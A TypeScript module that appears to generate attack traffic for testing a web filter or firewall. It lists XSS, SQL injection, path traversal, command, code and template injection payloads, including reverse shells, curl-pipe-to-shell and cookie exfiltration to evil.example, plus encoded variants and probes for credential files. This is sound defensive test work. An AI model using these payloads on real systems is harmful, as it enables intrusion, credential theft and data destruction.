import { CARRIERS, sample, type Sample } from './carriers.ts'

// Written from what such attacks must do to work, before any rule was looked at.
const PAYLOADS: Record<string, string[]> = {
  'cross-site scripting': [
    '<script>alert(1)</script>',
    '<script src=//evil.example/x.js></script>',
    '<img src=x onerror=alert(document.domain)>',
    '"><svg onload=fetch("//evil.example/"+document.cookie)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    '<body onload=alert(1)>',
    "'-alert(1)-'",
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
    '<ScRiPt>prompt(String.fromCharCode(88,83,83))</sCrIpT>',
    '<img/src="x"/onerror=eval(atob("YWxlcnQoMSk="))>',
    '"onmouseover="alert(1)" x="',
    '<form action="javascript:alert(1)"><input type=submit>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">',
    '<x onclick=alert(1)>press',
    '</script><script>document.location="//evil.example/?c="+document.cookie</script>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<embed src="javascript:alert(1)">',
  ],
  'SQL injection': [
    "' OR '1'='1",
    "' OR 1=1 -- ",
    "admin'--",
    "1' UNION SELECT username, password FROM users -- ",
    '1 UNION ALL SELECT NULL,NULL,version()-- -',
    "'; DROP TABLE users; --",
    "1' AND SLEEP(5) AND '1'='1",
    "1; WAITFOR DELAY '0:0:5'--",
    "' AND extractvalue(1,concat(0x7e,(select database()))) -- ",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 -- ",
    "' OR 'x' LIKE 'x",
    "1' ORDER BY 10 -- ",
    "' UNION/**/SELECT/**/NULL,table_name/**/FROM/**/information_schema.tables#",
    "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "') OR ('a'='a",
    '1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64',
    "'||(SELECT password FROM users WHERE id=1)||'",
    "1'; EXEC xp_cmdshell('whoami') -- ",
    '1 OR 1=1 LIMIT 1',
    "' HAVING 1=1 -- ",
    "-1' UNION SELECT 1,load_file('/etc/passwd'),3 -- ",
    "1' AND BENCHMARK(5000000,MD5('a')) -- ",
    "x' AND email IS NULL; --",
    "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1) -- ",
    "' OR username LIKE '%admin%",
  ],
  'path traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '....//....//....//etc/passwd',
    '../../../../../../proc/self/environ',
    'file:///etc/shadow',
    '../../../../var/www/html/.env',
    '../../.git/config',
    '../../../../etc/passwd\u0000.png',
    '/var/log/apache2/access.log',
    '../../../../root/.ssh/id_rsa',
    'C:\\boot.ini',
    '../../../../home/deploy/.bash_history',
    '..;/..;/..;/etc/passwd',
  ],
  'command injection': [
    '; cat /etc/passwd',
    '| id',
    '`whoami`',
    '$(curl http://evil.example/x.sh | sh)',
    '127.0.0.1; wget http://evil.example/a -O /tmp/a',
    '& ping -c 5 evil.example &',
    '|| nc -e /bin/sh evil.example 4444',
    '; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    '; python3 -c "import os; os.system(\'id\')"',
    'x && rm -rf /var/www',
    '$(sleep 5)',
    '; /bin/ls -la /',
    '| powershell -enc SQBFAFgA',
    '&& type C:\\Windows\\win.ini',
    "; perl -e 'print `id`'",
    '() { :; }; /bin/bash -c "cat /etc/passwd"',
    "a;c'a't /e't'c/passwd",
    '; chmod 777 /tmp/x; /tmp/x',
  ],
  'code injection': [
    '<?php system($_GET["c"]); ?>',
    '<?= `id` ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==',
    'phpinfo()',
    'eval(base64_decode("cGhwaW5mbygpOw=="))',
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    "require('child_process').exec('id')",
    'process.mainModule.require("fs").readFileSync("/etc/passwd")',
    '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()',
    '__import__("os").system("id")',
    'assert($_POST[x])',
    'http://evil.example/shell.txt?',
    'expect://id',
    'constructor.constructor("return process")().exit()',
    '${@print(md5(31337))}',
  ],
  'Java and templates': [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}',
    'T(java.lang.Runtime).getRuntime().exec("id")',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    '${T(java.lang.System).getenv()}',
    '#{request.getClass().getClassLoader()}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg',
    'javax.script.ScriptEngineManager',
    'new java.lang.ProcessBuilder("id").start()',
  ],
}

/** The same, written otherwise: what filters that look at bytes miss, and applications undo. */
const DISGUISES: Record<string, (value: string) => string> = {
  plain: (value) => value,
  'mixed case': (value) =>
    [...value].map((char, i) => (i % 2 === 0 ? char.toUpperCase() : char.toLowerCase())).join(''),
  'among words': (value) => `nice article ${value} thanks`,
}
/** What must keep its letters to do anything. */
const EXACT = new Set(['path traversal', 'command injection', 'code injection', 'Java and templates'])

const WAYS = ['query', 'form', 'json', 'multipart', 'graphql', 'nested', 'cookie'] as const

/** Every payload in every way it may come, and attacks on the protocol itself. */
export function attacks(): Sample[] {
  const all: Sample[] = []
  let n = 0
  for (const [category, payloads] of Object.entries(PAYLOADS))
    for (const payload of payloads)
      for (const [disguise, written] of Object.entries(DISGUISES)) {
        if (disguise === 'mixed case' && EXACT.has(category)) continue
        // A path or a command among words is none.
        if (disguise === 'among words' && category === 'path traversal') continue
        for (const way of WAYS) all.push(carried(way, category, written(payload), n++))
      }
  for (const payload of PAYLOADS['cross-site scripting'] ?? [])
    all.push(carried('referer', 'cross-site scripting', payload, n++))
  return [...all, ...onTheProtocol(), ...encoded(n)]
}

function carried(way: string, category: string, value: string, n: number): Sample {
  const carry = CARRIERS[way]
  if (!carry) throw new Error(`there is no carrier ${way}`)
  return carry(category, value, n)
}

/** Encodings within encodings, which servers undo more often than they should. */
function encoded(from: number): Sample[] {
  const twice = (value: string) => encodeURIComponent(encodeURIComponent(value))
  const wide = (value: string) =>
    [...value].map((char) => `%u00${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
  const entities = (value: string) => encodeURIComponent(value.replaceAll('<', '&lt;').replaceAll('(', '&#40;'))
  const plus = (value: string) => encodeURIComponent(value).replaceAll('%20', '+')
  const comment = (value: string) => encodeURIComponent(value.replaceAll(' ', '/**/'))
  const tab = (value: string) => encodeURIComponent(value.replaceAll(' ', '\t'))
  const of = (category: string, ways: ((value: string) => string)[], most: number) =>
    (PAYLOADS[category] ?? [])
      .slice(0, most)
      .flatMap((payload, i) =>
        ways.map((way) => sample('disguised', 'GET', `/search?page=${from + i}&q=${way(payload)}`)),
      )
  return [
    ...of('cross-site scripting', [twice, wide, plus], 20),
    ...of('SQL injection', [comment, tab, plus, twice], 20),
    ...of('path traversal', [twice], 8),
    ...of('cross-site scripting', [entities], 4),
  ]
}

function onTheProtocol(): Sample[] {
  const scanners = [
    'sqlmap/1.8#stable',
    'Nikto/2.5.0',
    'nuclei - Open-source project',
    'masscan/1.3',
    'WPScan v3.8',
    'dirbuster',
  ]
  const probes = [
    '/.git/config',
    '/.env',
    '/wp-config.php.bak',
    '/etc/passwd',
    '/../../etc/passwd',
    '/.aws/credentials',
    '/.htpasswd',
    '/.ssh/id_rsa',
  ]
  return [
    ...scanners.map((agent, i) => sample('scanners and probes', 'GET', `/?scan=${i}`, '', { 'user-agent': agent })),
    ...probes.map((target) => sample('scanners and probes', 'GET', target)),
    ...['/a?x=%0d%0aSet-Cookie:%20a=b', '/a?u=%0d%0a%0d%0a<html>', '/a?x=%0aLocation:%20http://evil.example'].map(
      (target) => sample('header injection', 'GET', target),
    ),
  ]
}
